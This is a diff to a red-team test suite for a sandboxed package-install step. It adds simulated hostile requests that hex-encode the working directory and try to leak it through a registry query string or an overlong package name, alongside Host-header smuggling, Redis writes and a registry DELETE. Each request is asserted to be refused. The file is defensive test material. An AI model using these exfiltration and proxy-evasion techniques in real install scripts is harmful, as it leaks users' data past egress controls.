@@ -83,8 +83,12 @@ const viaProxy = (method, target, host) => new Promise((resolve) => {
   r.redis = await tcp('127.0.0.1', C.redis, 'SET sopworks-pwned 1\\r\\n');
   r.proxyToCanary = await viaProxy('GET', 'http://127.0.0.1:' + C.canary + '/' + encodeURIComponent(process.cwd()), '127.0.0.1:' + C.canary);
   r.proxyConnectRedis = await viaProxy('CONNECT', '127.0.0.1:' + C.redis, '127.0.0.1:' + C.redis);
-  r.proxyHostSmuggled = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/-/ping', '127.0.0.1:' + C.canary);
-  r.proxyOtherName = await viaProxy('GET', 'http://localhost:' + C.registry + '/-/ping', 'localhost:' + C.registry);
+  r.proxyHostSmuggled = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/attack-pkg', '127.0.0.1:' + C.canary);
+  r.proxyOtherName = await viaProxy('GET', 'http://localhost:' + C.registry + '/attack-pkg', 'localhost:' + C.registry);
+  const leak = Buffer.from(process.cwd()).toString('hex');
+  r.proxyOtherPath = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/-/whoami', '127.0.0.1:' + C.registry);
+  r.proxyQuery = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/attack-pkg?leak=' + leak, '127.0.0.1:' + C.registry);
+  r.proxyLongName = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/' + leak.repeat(20).slice(0, 300), '127.0.0.1:' + C.registry);
   r.proxyTlsToHttpRegistry = await viaProxy('CONNECT', '127.0.0.1:' + C.registry, '127.0.0.1:' + C.registry);
   r.proxyWrite = await viaProxy('DELETE', 'http://127.0.0.1:' + C.registry + '/attack-pkg/-rev/1', '127.0.0.1:' + C.registry);
   try { fs.writeFileSync(C.marker, 'pwned'); r.marker = 'written'; } catch (e) { r.marker = 'error ' + e.code; }
@@ -266,9 +270,12 @@ describe('red team: the install step', function () {
       assert.equal(results.proxyOtherName, 'status 403', 'another name for the registry host is not the registry');
       assert.equal(results.proxyTlsToHttpRegistry, 'connect 403', 'an http registry is not reachable as https');
       assert.equal(results.proxyWrite, 'status 403', 'nothing but reads reaches the registry (the user token would go with it)');
+      assert.equal(results.proxyOtherPath, 'status 403', "only a package's metadata and tarballs");
+      assert.equal(results.proxyQuery, 'status 403', 'no query string');
+      assert.equal(results.proxyLongName, 'status 403', 'no name over 214 characters');
       assert.match(results.marker!, /^error/);
       const refused = run.outcome.violations.filter((v) => v.kind === 'network').map((v) => v.detail);
-      assert.equal(refused.length, 5, refused.join('\n'));
+      assert.equal(refused.length, 8, refused.join('\n'));
       assert.ok(refused.every((detail) => detail.startsWith('refused by the egress proxy: ')));
     });
   }
